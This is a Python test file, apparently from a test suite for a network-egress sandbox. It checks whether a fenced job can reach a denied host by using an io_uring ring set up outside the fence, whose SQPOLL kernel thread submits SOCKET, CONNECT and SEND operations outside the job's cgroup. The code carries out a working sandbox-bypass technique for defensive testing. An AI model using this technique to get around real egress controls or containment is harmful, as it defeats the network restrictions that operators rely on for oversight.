"""A parent outside the fence creates an io_uring instance with an SQPOLL kernel thread and hands the ring fd to the fenced command; the job queues IORING_OP_SOCKET, CONNECT and SEND to a denied host, which the parent's thread runs outside the job's cgroup."""
import json

from vlib import *  # noqa: F401,F403
import _uring as U

POLICY = {"allow": [A4 + ":443"]}
FEATURES = ["io_uring_sqpoll"]
AS = ("nobody", "root")
SINKS_OK = []
DENIED = [(D4, 443, "tcp")]
RECORD = [("egress.job", {"egress.*inherit*|egress.*closed*": lambda v: bool(v)})]


def outside(token, st):
    fd, params = U.setup(8, sqpoll=True)
    U.register_sparse_files(fd, 4)
    ring = U.Ring(fd, params)  # mapped here: the SQPOLL thread reads buffers in our mm
    st["keep"] = ring
    return {"fds": [fd], "args": [fd, json.dumps({"params": params,
                                                  "data_addr": ring.sqes_addr})]}


def job(token, args):
    fd, info = int(args[0]), json.loads(args[1])
    try:
        os.fstat(fd)
    except OSError as e:
        out(step="inherited ring fd %d" % fd, ok=False, err=err_name(e))
        return
    ring = attempt("map the inherited ring", U.Ring, fd, info["params"], info["data_addr"])
    if ring is None:
        return
    sa = ring.put_data(1024, sockaddr_in(D4, 443))
    data = payload(token, "io_uring sqpoll")
    buf = ring.put_data(2048, data)
    ring.submit(U.OP_SOCKET, socket.AF_INET, off=socket.SOCK_STREAM, file_index=1, user_data=1)
    ring.kick(True)
    out(step="socket", cqe=attempt("wait", ring.wait_cqe))
    ring.submit(U.OP_CONNECT, 0, addr=sa, off=16, flags=U.IOSQE_FIXED_FILE, user_data=2)
    ring.kick(True)
    out(step="connect", cqe=attempt("wait", ring.wait_cqe))
    ring.submit(U.OP_SEND, 0, addr=buf, length=len(data), flags=U.IOSQE_FIXED_FILE, user_data=3)
    ring.kick(True)
    out(step="send", cqe=attempt("wait", ring.wait_cqe))


if __name__ == "__main__":
    main(globals())
